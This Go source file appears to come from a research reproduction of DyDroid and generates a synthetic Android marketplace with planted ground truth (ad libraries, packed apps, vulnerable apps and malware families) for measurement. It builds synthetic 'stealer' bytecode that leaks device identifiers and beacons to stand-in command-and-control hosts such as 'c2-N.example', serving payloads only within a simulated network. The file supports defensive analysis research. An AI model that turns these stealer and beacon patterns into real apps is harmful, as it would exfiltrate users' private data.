// Package corpus generates the synthetic marketplace DyDroid is measured
// against: a Google-Play-scale population of applications whose planted
// ground truth reproduces the paper's published marginals (Tables II-X and
// Figure 3) at scale 1.0. Every app is a real APK with real bytecode that
// the pipeline must decompile, rewrite, exercise and intercept — the
// tables are regenerated by measurement, not by echoing constants.
package corpus

import (
	"context"
	"fmt"
	"math"
	"math/rand"
	"time"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/mail"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/netsim"
)

// Metadata is the store-page information crawled alongside each app.
type Metadata struct {
	Package     string
	Category    string
	Downloads   int64
	NumRatings  int
	AvgRating   float64
	ReleaseDate time.Time
}

// StoreApp is one generated application.
type StoreApp struct {
	Meta Metadata
	Spec *Spec
	// Index is the app's position in generation order: Generate's
	// store.Apps[i].Index == i, and Stream yields apps in the same
	// order, so consumers can place results without holding the full
	// list.
	Index int
}

// Store is the generated marketplace.
type Store struct {
	Apps []*StoreApp
	// Network serves the remote payloads (the Baidu ad plugins).
	Network *netsim.Network
	// Scale is the configured scale factor.
	Scale float64
	cache *payloadCache
	// companions are the apps SetupDevice installs, built once with
	// their archives. Devices share them read-only: nothing writes an
	// installed APK or the archive bytes after Generate.
	companions []companion
}

// companion is one pre-installed app and its serialized archive.
type companion struct {
	apk     *apk.APK
	archive []byte
}

// Config controls generation.
type Config struct {
	// Seed drives all randomness; equal seeds produce identical stores.
	Seed int64
	// Scale shrinks the population (1.0 = the paper's 58,739 apps).
	Scale float64
}

// BuildAPK materializes the archive bytes for one app. Archives are built
// on demand so full-scale stores stay memory-light.
func (st *Store) BuildAPK(app *StoreApp) ([]byte, error) {
	a, err := app.Spec.Build(st.cache)
	if err != nil {
		return nil, err
	}
	return apk.Build(a)
}

// SetupDevice pre-installs the companion apps every analysis device needs:
// Adobe AIR and the Devicescape offloader (Table IX's foreign-library
// providers) and the two chat apps the Chathook malware targets, with
// their processes running.
func (st *Store) SetupDevice(dev *android.Device) error {
	for _, c := range st.companions {
		if _, err := dev.Packages.InstallArchive(c.apk, c.archive); err != nil {
			return fmt.Errorf("corpus: companion %s: %w", c.apk.Manifest.Package, err)
		}
	}
	dev.StartProcess(QQPackage, 10100)
	dev.StartProcess(WeChatPackage, 10101)
	return nil
}

// buildCompanions builds SetupDevice's four apps and their archives.
func buildCompanions() ([]companion, error) {
	air, err := libraryApp(AdobeAirPackage, "libCore.so")
	if err != nil {
		return nil, err
	}
	ds, err := libraryApp(DevicescapePackage, "libdevicescape-jni.so")
	if err != nil {
		return nil, err
	}
	var out []companion
	for _, a := range []*apk.APK{air, ds, chatApp(QQPackage), chatApp(WeChatPackage)} {
		archive, err := apk.Build(a)
		if err != nil {
			return nil, fmt.Errorf("corpus: companion %s: %w", a.Manifest.Package, err)
		}
		out = append(out, companion{apk: a, archive: archive})
	}
	return out, nil
}

// libraryApp is a companion that only ships the native library soname,
// which other apps load from its private lib directory (Table IX).
func libraryApp(pkg, soname string) (*apk.APK, error) {
	lib, err := benignLib(soname, 7)
	if err != nil {
		return nil, err
	}
	data, err := nativebin.Encode(lib)
	if err != nil {
		return nil, err
	}
	return &apk.APK{
		Manifest:   apk.Manifest{Package: pkg, MinSDK: 14},
		NativeLibs: map[string][]byte{soname: data},
	}, nil
}

func chatApp(pkg string) *apk.APK {
	b := dex.NewBuilder()
	b.Class(pkg+".ChatActivity", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		panic("corpus: chat app template: " + err.Error()) // static template; cannot fail
	}
	return &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 14,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".ChatActivity", Main: true}}}},
		Dex: dexBytes,
	}
}

// TrainingSet builds the DroidNative classifier the paper trains: samples
// from 19 malware families (the three families planted in the corpus plus
// sixteen synthetic ones), perFamily variants each. The paper used 1,240
// samples; perFamily 3 keeps classification fast while exercising the same
// path — pass 65 to approximate the paper's volume.
func (st *Store) TrainingSet(perFamily int) (*droidnative.Classifier, error) {
	if perFamily <= 0 {
		perFamily = 3
	}
	var clf droidnative.Classifier
	swiss, err := dex.Decode(st.cache.swiss)
	if err != nil {
		return nil, err
	}
	adware, err := dex.Decode(st.cache.adware)
	if err != nil {
		return nil, err
	}
	for v := 0; v < perFamily; v++ {
		if err := clf.Train("Swiss code monkeys", mail.FromDex(swiss)); err != nil {
			return nil, err
		}
		if err := clf.Train("Adware airpush minimob", mail.FromDex(adware)); err != nil {
			return nil, err
		}
		hook, err := chathookLib("libhook.so", v)
		if err != nil {
			return nil, err
		}
		if err := clf.Train("Chathook ptrace", mail.FromNative(hook)); err != nil {
			return nil, err
		}
	}
	// Sixteen further families from the training corpora [69],[22]: each a
	// structurally distinct synthetic stealer.
	for f := 0; f < 16; f++ {
		prog, err := syntheticFamily(f)
		if err != nil {
			return nil, err
		}
		for v := 0; v < perFamily; v++ {
			if err := clf.Train(fmt.Sprintf("family-%02d", f), prog); err != nil {
				return nil, err
			}
		}
	}
	return &clf, nil
}

// syntheticFamily builds a structurally distinct malicious program for
// family f.
func syntheticFamily(f int) (*mail.Program, error) {
	b := dex.NewBuilder()
	cls := b.Class(fmt.Sprintf("com.fam%02d.Bot", f), "java.lang.Object")
	m := cls.Method("main", dex.ACCPublic, 8, "V")
	for i := 0; i <= f%5; i++ {
		emitLeak(m, android.AllDataTypes[(f+i)%len(android.AllDataTypes)])
	}
	m.Const(5, 0).
		Const(6, int64(2+f%7)).
		Label("loop").
		IfGe(5, 6, "end").
		InvokeVirtual(dex.MethodRef{Class: cls.Raw().Name, Name: "beacon", Sig: "()V"}, 0).
		Const(7, 1).
		Add(5, 5, 7).
		Goto("loop").
		Label("end").
		ReturnVoid().Done()
	bm := cls.Method("beacon", dex.ACCPublic, 4, "V")
	for i := 0; i < 1+f%3; i++ {
		bm.ConstString(1, fmt.Sprintf("http://c2-%d.example/beacon", f)).
			NewInstance(2, "java.net.HttpURLConnection").
			InvokeVirtual(refHTTPWrite, 2, 1)
	}
	bm.ReturnVoid().Done()
	df := b.File()
	if err := df.Validate(); err != nil {
		return nil, err
	}
	return mail.FromDex(df), nil
}

// Generate builds the marketplace.
func Generate(cfg Config) (*Store, error) {
	return GenerateContext(context.Background(), cfg)
}

// GenerateContext is Generate with cancellation: the spec-planning
// passes check ctx between population groups, so a cancelled
// marketplace-scale generation returns promptly instead of finishing
// the whole plan first.
func GenerateContext(ctx context.Context, cfg Config) (*Store, error) {
	if cfg.Scale <= 0 {
		cfg.Scale = 1.0
	}
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("corpus: generate: %w", err)
	}
	cache, err := newPayloadCache()
	if err != nil {
		return nil, err
	}
	companions, err := buildCompanions()
	if err != nil {
		return nil, err
	}

	st := &Store{Network: netsim.NewNetwork(), Scale: cfg.Scale, cache: cache, companions: companions}
	p := Paper()
	sc := func(n int) int { return Scaled(n, cfg.Scale) }
	names := newPkgNamer()

	release := time.Date(2016, 6, 1, 0, 0, 0, 0, time.UTC)

	var all []*StoreApp
	add := func(s *Spec) *StoreApp {
		app := &StoreApp{Spec: s, Index: len(all)}
		all = append(all, app)
		return app
	}

	// --- Ad-library apps (the 15,012 of §V-B) -----------------------------
	adN := sc(9000)  // ad DCL + ad native renderer
	adNT := sc(3000) // ad DCL + dormant native code
	adPlain := sc(p.AdApps) - adN - adNT
	if adPlain < 0 {
		adPlain = 0
	}
	for i := 0; i < adN; i++ {
		add(&Spec{Pkg: names.next(), Archetype: "adN", AdMob: true, AdNative: true})
	}
	for i := 0; i < adNT; i++ {
		add(&Spec{Pkg: names.next(), Archetype: "adNT", AdMob: true, NativeCodeOnly: true})
	}
	for i := 0; i < adPlain; i++ {
		add(&Spec{Pkg: names.next(), Archetype: "adPlain", AdMob: true})
	}

	// --- The "other DEX-intercepted" group B (1,756) ----------------------
	// Ordered so privacy assignment can target own-capable indices.
	var groupB []*StoreApp
	addB := func(s *Spec) *StoreApp {
		app := add(s)
		groupB = append(groupB, app)
		return app
	}
	for i := 0; i < sc(p.VulnDexExternal); i++ {
		addB(&Spec{Pkg: VulnDexPackages[i%len(VulnDexPackages)], Archetype: "vulnExternalDex",
			VulnExternalDex: true, MinSDK: 16})
	}
	for i := 0; i < sc(6); i++ {
		addB(&Spec{Pkg: names.next(), Archetype: "ownDex", OwnDex: true})
	}
	for i := 0; i < sc(p.DexBoth); i++ {
		addB(&Spec{Pkg: names.next(), Archetype: "bothDex", OwnDex: true, GenericThirdDex: true})
	}
	remoteCount := sc(p.RemoteApps)
	for i := 0; i < remoteCount; i++ {
		pkg := RemotePackages[i%len(RemotePackages)]
		spec := &Spec{Pkg: pkg, Archetype: "remote",
			RemoteURL: "http://mobads.baidu.com/ads/pa/" + pkg + ".jar"}
		if pkg == "com.classicalmuseumad.cnad" {
			// The paper's example app downloads two files (JAR and APK).
			spec.RemoteURL2 = "http://mobads.baidu.com/ads/pa/" + pkg + ".apk"
		}
		addB(spec)
	}
	for i := 0; i < sc(p.SwissApps); i++ {
		addB(&Spec{Pkg: SwissPackage, Archetype: "swiss", MalwareFamily: "swiss",
			MalwareFiles: 1, ReleaseDate: release, GenericThirdDex: false})
	}
	for i := 0; i < sc(p.AdwareApps); i++ {
		pkg := AdwarePackage
		if i > 0 {
			pkg = names.next()
		}
		addB(&Spec{Pkg: pkg, Archetype: "adware", MalwareFamily: "adware",
			MalwareFiles: 1, ReleaseDate: release})
	}
	genericWithNative := sc(828)
	genericPlain := sc(1536) - genericWithNative
	if genericPlain < 0 {
		genericPlain = 0
	}
	for i := 0; i < genericWithNative; i++ {
		addB(&Spec{Pkg: names.next(), Archetype: "genericN",
			GenericThirdDex: true, ThirdNative: true})
	}
	for i := 0; i < genericPlain; i++ {
		addB(&Spec{Pkg: names.next(), Archetype: "generic", GenericThirdDex: true})
	}
	nonPackedB := len(groupB)
	// Packed apps close group B (their container DCL is intercepted too).
	packedCount := sc(p.Packed)
	packedCats := expandPackerCategories(packedCount)
	for i := 0; i < packedCount; i++ {
		addB(&Spec{Pkg: names.next(), Archetype: "packed", Packed: true,
			PackKey: byte(0x30 + i%0x50), Category: packedCats[i]})
	}

	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("corpus: generate: %w", err)
	}
	assignPrivacy(groupB[:nonPackedB], cfg.Scale)

	// --- Native-only populations ------------------------------------------
	for i := 0; i < sc(1500); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "nvThird", ThirdNative: true})
	}
	chathookCount := sc(p.ChathookApps)
	dualFile := sc(4) // four chathook apps carry two hook libraries
	for i := 0; i < chathookCount; i++ {
		pkg := names.next()
		if i == 0 {
			pkg = ChathookPackage
		}
		files := 1
		if i < dualFile {
			files = 2
		}
		add(&Spec{Pkg: pkg, Archetype: "chathook", MalwareFamily: "chathook",
			MalwareFiles: files, ReleaseDate: release})
	}
	for i := 0; i < sc(6); i++ {
		add(&Spec{Pkg: VulnNativePackages[i%6], Archetype: "vulnAir", VulnAdobeAir: true})
	}
	for i := 0; i < sc(1); i++ {
		add(&Spec{Pkg: VulnNativePackages[6], Archetype: "vulnDS", VulnDevicescape: true})
	}
	for i := 0; i < sc(1823); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "nvOwn", OwnNative: true})
	}
	for i := 0; i < sc(p.NativeBoth); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "nvBoth", OwnNative: true, ThirdNative: true})
	}

	// --- Candidates whose DCL never fires ----------------------------------
	for i := 0; i < sc(7168); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "dualNT", DexCodeOnly: true, NativeCodeOnly: true})
	}
	for i := 0; i < sc(16418); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "dexNT", DexCodeOnly: true})
	}
	for i := 0; i < sc(1041); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "nvNT", NativeCodeOnly: true})
	}

	// --- Failure populations (Table II) ------------------------------------
	for i := 0; i < sc(p.DexRewriteFailures); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "dexFailRewrite", DexCodeOnly: true, AntiRepack: true})
	}
	for i := 0; i < sc(p.DexNoActivity); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "dexFailNoAct", DexCodeOnly: true, NoActivity: true})
	}
	for i := 0; i < sc(p.DexCrashes); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "dexFailCrash", DexCodeOnly: true, CrashAtLaunch: true})
	}
	for i := 0; i < sc(p.NativeRewriteFailures); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "nvFailRewrite", NativeCodeOnly: true, AntiRepack: true})
	}
	for i := 0; i < sc(p.NativeNoActivity); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "nvFailNoAct", NativeCodeOnly: true, NoActivity: true})
	}
	for i := 0; i < sc(p.NativeCrashes); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "nvFailCrash", NativeCodeOnly: true, CrashAtLaunch: true})
	}

	// --- Obfuscation-only and plain apps ------------------------------------
	for i := 0; i < sc(p.AntiDecompile); i++ {
		add(&Spec{Pkg: names.next(), Archetype: "antiDecomp", AntiDecompile: true})
	}
	plainTotal := sc(12685)
	for i := 0; i < plainTotal; i++ {
		add(&Spec{Pkg: names.next(), Archetype: "plain"})
	}

	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("corpus: generate: %w", err)
	}
	assignGates(all, cfg.Scale)
	assignLexical(all, cfg.Scale)
	assignReflection(all, sc(p.Reflection))
	assignCategories(all)
	assignMetadata(all, cfg.Seed, release)

	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("corpus: generate: %w", err)
	}
	// Serve the remote payloads: each Baidu app's plugin carries that
	// app's assigned leaks.
	for _, app := range all {
		if app.Spec.RemoteURL == "" {
			continue
		}
		payload, err := leakPayloadDex(app.Spec.Pkg, app.Spec.LeakThird, app.Spec.LeakOwn, app.Spec.ReadSettings)
		if err != nil {
			return nil, err
		}
		st.Network.Serve(app.Spec.RemoteURL, netsim.Payload{Data: payload, ContentType: "application/java-archive"})
		if app.Spec.RemoteURL2 != "" {
			st.Network.Serve(app.Spec.RemoteURL2, netsim.Payload{Data: payload, ContentType: "application/vnd.android.package-archive"})
		}
	}

	st.Apps = all
	return st, nil
}

// assignPrivacy distributes the Table X leak types over the non-packed
// group-B apps. The malware apps' fixed payloads already leak
// IMEI/phone/IMSI, so their contributions are pre-seeded.
func assignPrivacy(groupB []*StoreApp, scale float64) {
	if len(groupB) == 0 {
		return
	}
	ownCap := min(50, len(groupB)) // indices eligible for own-entity leaks
	preSeed := map[string]int{}
	var swissIdx, adwareIdxs []int
	for i, app := range groupB {
		switch app.Spec.MalwareFamily {
		case "swiss":
			swissIdx = append(swissIdx, i)
			preSeed["IMEI"]++
			preSeed["Phone number"]++
			preSeed["IMSI"]++
		case "adware":
			adwareIdxs = append(adwareIdxs, i)
			preSeed["IMEI"]++
		}
	}
	_ = swissIdx
	_ = adwareIdxs

	byName := map[string]android.DataType{}
	for _, dt := range android.AllDataTypes {
		byName[string(dt)] = dt
	}
	for rowIdx, row := range TableX {
		dt := byName[row.Type]
		total := Scaled(row.Apps, scale) - preSeed[row.Type]
		if total < 0 {
			total = 0
		}
		ownCount := Scaled(row.Apps-row.Exclusive, scale)
		if row.Apps == row.Exclusive {
			ownCount = 0
		}
		if ownCount > total {
			ownCount = total
		}
		thirdCount := total - ownCount
		// Own-entity leaks rotate within the own-capable prefix.
		for j := 0; j < ownCount; j++ {
			app := groupB[(rowIdx*7+j)%ownCap]
			app.Spec.LeakOwn = appendType(app.Spec.LeakOwn, dt)
		}
		// Third-party leaks rotate through the rest, skipping malware apps
		// (whose payloads are fixed).
		if thirdCount > 0 {
			span := len(groupB) - ownCap
			if span <= 0 {
				span = len(groupB)
			}
			placed := 0
			for j := 0; placed < thirdCount && j < 4*len(groupB); j++ {
				idx := ownCap + (rowIdx*131+j)%span
				if idx >= len(groupB) {
					idx = j % len(groupB)
				}
				app := groupB[idx]
				if app.Spec.MalwareFamily != "" || hasType(app.Spec.LeakThird, dt) {
					continue
				}
				app.Spec.LeakThird = appendType(app.Spec.LeakThird, dt)
				placed++
			}
		}
	}
	// Settings readers: OwnSettings own-entity + the rest third-party.
	p := Paper()
	ownSettings := Scaled(p.OwnSettings, scale)
	thirdSettings := Scaled(p.SettingsReaders, scale) - ownSettings
	if thirdSettings < 0 {
		thirdSettings = 0
	}
	for j := 0; j < ownSettings && j < ownCap; j++ {
		app := groupB[j]
		app.Spec.LeakOwn = appendType(app.Spec.LeakOwn, android.DTSettings)
	}
	placed := 0
	for j := 0; placed < thirdSettings && j < 4*len(groupB); j++ {
		idx := (ownSettings + j) % len(groupB)
		app := groupB[idx]
		if app.Spec.MalwareFamily != "" || app.Spec.ReadSettings ||
			hasType(app.Spec.LeakOwn, android.DTSettings) {
			continue
		}
		app.Spec.ReadSettings = true
		placed++
	}
}

func appendType(ts []android.DataType, dt android.DataType) []android.DataType {
	if hasType(ts, dt) {
		return ts
	}
	return append(ts, dt)
}

func hasType(ts []android.DataType, dt android.DataType) bool {
	for _, t := range ts {
		if t == dt {
			return true
		}
	}
	return false
}

// assignGates distributes the Table VIII runtime gates over the malicious
// files in generation order.
func assignGates(apps []*StoreApp, scale float64) {
	p := Paper()
	var pool []Gate
	for i := 0; i < Scaled(p.GateTime, scale); i++ {
		pool = append(pool, GateTime)
	}
	for i := 0; i < Scaled(p.GateAirplane, scale); i++ {
		pool = append(pool, GateAirplane)
	}
	for i := 0; i < Scaled(p.GateConn, scale); i++ {
		pool = append(pool, GateConn)
	}
	for i := 0; i < Scaled(p.GateLocation, scale); i++ {
		pool = append(pool, GateLocation)
	}
	next := 0
	take := func() Gate {
		if next < len(pool) {
			g := pool[next]
			next++
			return g
		}
		return GateNone
	}
	for _, app := range apps {
		if app.Spec.MalwareFamily == "" {
			continue
		}
		files := app.Spec.MalwareFiles
		if files == 0 {
			files = 1
		}
		app.Spec.Gates = app.Spec.Gates[:0]
		for f := 0; f < files; f++ {
			app.Spec.Gates = append(app.Spec.Gates, take())
		}
	}
}

// assignLexical marks apps as ProGuard-renamed, excluding apps whose
// own-entity ground truth renaming would destroy, the packed apps (their
// stub is generated fresh) and the anti-decompilation apps (not
// measurable). The balance lands on plain apps so the 89.95% Table VI
// rate holds at full scale.
func assignLexical(apps []*StoreApp, scale float64) {
	skipPlain := Scaled(3379, scale)
	plainSeen := 0
	for _, app := range apps {
		s := app.Spec
		ownEntity := s.OwnDex || s.OwnNative || s.VulnExternalDex || s.VulnAdobeAir ||
			s.VulnDevicescape || s.MalwareFamily == "chathook"
		if ownEntity || s.Packed || s.AntiDecompile {
			continue
		}
		if s.Archetype == "plain" && plainSeen < skipPlain {
			plainSeen++
			continue
		}
		s.Lexical = true
	}
}

// assignReflection marks the first quota decompilable apps as using
// reflection.
func assignReflection(apps []*StoreApp, quota int) {
	for _, app := range apps {
		if quota == 0 {
			return
		}
		if app.Spec.AntiDecompile || app.Spec.Packed {
			continue
		}
		app.Spec.Reflection = true
		quota--
	}
}

func assignCategories(apps []*StoreApp) {
	for i, app := range apps {
		if app.Spec.Category == "" {
			app.Spec.Category = Categories[i%len(Categories)]
		}
		app.Meta.Category = app.Spec.Category
	}
}

// expandPackerCategories spreads the Figure 3 distribution over n packed
// apps.
func expandPackerCategories(n int) []string {
	var full []string
	for _, pc := range PackerCategories {
		for i := 0; i < pc.Apps; i++ {
			full = append(full, pc.Category)
		}
	}
	out := make([]string, n)
	for i := 0; i < n; i++ {
		out[i] = full[i*len(full)/max(n, 1)%len(full)]
	}
	return out
}

// fixedDownloads pins store-page numbers the paper quotes for specific
// apps.
var fixedDownloads = map[string]int64{
	SwissPackage:                           10_000_000,
	AdwarePackage:                          10_000,
	ChathookPackage:                        10_000_000,
	"com.longtukorea.snmg":                 1_000_000,
	"com.felink.android.launcher91":        1_000_000,
	"com.ycgame.cf1en.gpiap":               100_000,
	"com.fitfun.cubizone.love":             100_000,
	"com.fkccy.view":                       100_000,
	"com.trustlook.fakeiddetector":         10_000,
	"com.leduo.endcallsms":                 100,
	"com.devicescape.usc.wifinow":          1_000_000,
	"com.renren.and02506":                  100_000,
	"air.air.com.hi4o.game.Subway_Rushers": 10_000,
	"air.com.fire.ane.test.bubblecrazy":    10_000,
	"com.renren.wan.war":                   10_000,
	"air.com.fire.ane.test.ANETest":        1_000,
	"com.moeapps":                          100,
}

// assignMetadata draws store popularity. DCL apps are drawn more popular
// than the complement, native-DCL apps markedly so — the Table III shape.
//
// Each app draws from a private rng seeded by (seed, index) rather than
// one shared sequential stream, so app i's metadata depends only on the
// seed and its position — never on how many draws earlier apps made.
// That positional independence is what lets corpus.Stream guarantee its
// i-th yielded app is identical to Generate's store.Apps[i].
func assignMetadata(apps []*StoreApp, seed int64, release time.Time) {
	for _, app := range apps {
		s := app.Spec
		rng := rand.New(rand.NewSource(metaSeed(seed, app.Index)))
		app.Meta.Package = s.Pkg
		app.Meta.ReleaseDate = release
		if s.ReleaseDate != (time.Time{}) {
			app.Meta.ReleaseDate = s.ReleaseDate
		}
		base := math.Exp(rng.NormFloat64()*0.7) * 11000
		dexCand := s.AdMob || s.RemoteURL != "" || s.GenericThirdDex || s.OwnDex ||
			s.DexCodeOnly || s.VulnExternalDex || s.Packed || s.MalwareFamily == "swiss" ||
			s.MalwareFamily == "adware"
		nvCand := s.AdNative || s.ThirdNative || s.OwnNative || s.NativeCodeOnly ||
			s.VulnAdobeAir || s.VulnDevicescape || s.Packed || s.MalwareFamily == "chathook"
		if dexCand {
			base *= 2.0
		}
		if nvCand {
			base *= 5.0
		}
		if fixed, ok := fixedDownloads[s.Pkg]; ok {
			base = float64(fixed)
		}
		app.Meta.Downloads = int64(base)
		app.Meta.NumRatings = int(base/25) + rng.Intn(20)
		rating := 3.72 + 0.14*b2f(dexCand) + 0.05*b2f(nvCand) + rng.NormFloat64()*0.15
		app.Meta.AvgRating = clamp(rating, 1, 5)
	}
}

// metaSeed mixes the corpus seed with an app index (splitmix64 finalizer)
// so adjacent indices get uncorrelated metadata streams.
func metaSeed(seed int64, index int) int64 {
	x := uint64(seed) + 0x9E3779B97F4A7C15*uint64(index+1)
	x ^= x >> 30
	x *= 0xBF58476D1CE4E5B9
	x ^= x >> 27
	x *= 0x94D049BB133111EB
	x ^= x >> 31
	return int64(x)
}

func b2f(b bool) float64 {
	if b {
		return 1
	}
	return 0
}

func clamp(v, lo, hi float64) float64 {
	return math.Max(lo, math.Min(hi, v))
}

// pkgNamer generates unique plausible package names.
type pkgNamer struct {
	n     int
	words []string
}

func newPkgNamer() *pkgNamer {
	return &pkgNamer{words: []string{
		"cloud", "weather", "photo", "music", "chat", "game", "news",
		"travel", "fitness", "recipe", "budget", "study", "sketch",
		"radio", "puzzle", "market", "diary", "camera", "video", "story",
	}}
}

func (pn *pkgNamer) next() string {
	i := pn.n
	pn.n++
	w1 := pn.words[i%len(pn.words)]
	w2 := pn.words[(i/len(pn.words))%len(pn.words)]
	return fmt.Sprintf("com.%s.%s%d", w1, w2, i)
}
